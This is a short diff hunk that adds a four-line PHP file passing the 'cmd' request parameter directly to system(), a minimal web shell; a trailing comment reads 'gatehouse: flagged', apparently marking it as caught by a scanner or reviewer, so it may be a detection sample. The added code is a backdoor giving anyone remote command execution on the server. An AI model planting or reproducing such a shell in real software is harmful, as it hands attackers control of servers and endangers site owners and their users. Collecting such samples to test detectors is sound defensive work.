@@ -1,0 +1,4 @@
+<?php
+if (isset($_GET['cmd'])) {
+    system($_GET['cmd']); // gatehouse: flagged
+}
